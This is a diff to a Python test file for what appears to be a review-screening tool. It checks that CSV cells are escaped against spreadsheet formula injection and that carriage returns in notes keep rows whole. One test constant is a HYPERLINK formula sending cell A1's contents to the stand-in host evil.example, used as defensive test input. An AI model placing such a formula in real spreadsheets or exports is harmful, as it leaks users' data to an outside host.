@@ -19,12 +19,21 @@ from .test_screening import ROOT
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
-@pytest.mark.parametrize("value", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=already", "plain", "",
+@pytest.mark.parametrize("value", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\nx", "'=already", "plain", "",
                                    "'quoted", "a=b"])
 def test_round_trip(value: str) -> None:
     cell = to_cell(value)
-    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
     assert from_cell(cell) == value
+
+
+def test_carriage_returns_become_line_feeds_so_the_row_stays_whole(tmp_path) -> None:
+    """The csv writer (LF line ends) left a bare CR unquoted; reading the log back split the row."""
+    protocol = load_protocol(ROOT / "review" / "protocol.yaml")
+    log = DecisionLog(tmp_path / "screening", protocol, ["r1", "r2"])
+    log.record([Decision("r1", "title_abstract", "anna", "exclude", ("E2",), note="\r=1+1 first\rsecond\r\nthird"),
+                Decision("r2", "title_abstract", "anna", "include")])
+    assert [(d.record_id, d.note) for d in log.read()] == [("r1", "\n=1+1 first\nsecond\nthird"), ("r2", "")]
 
 
 def _cells(path) -> list[str]:
